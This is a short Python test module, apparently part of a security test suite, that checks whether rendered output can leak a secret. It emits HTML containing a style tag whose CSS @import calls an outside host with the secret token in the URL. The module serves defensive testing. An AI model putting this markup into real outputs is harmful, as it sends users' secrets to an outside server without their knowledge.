"""Markup of an output brings a style that imports another from outside."""

from tests.attacks.attack import Attack
from tests.attacks.grounds.ground import Ground
from tests.attacks.grounds.world import WEB


def attempt(ground: Ground) -> bool:
    """Gives whether it worked."""
    return ground.leave_by_html(f"<style>@import url(http://{WEB}/{ground.token});</style>", "HTML")


ATTACK = Attack(
    "markup in an output",
    attempt,
    unrecorded="Markup is always cleaned, or loads nothing by the page's policy; the cell that made it is recorded.",
)
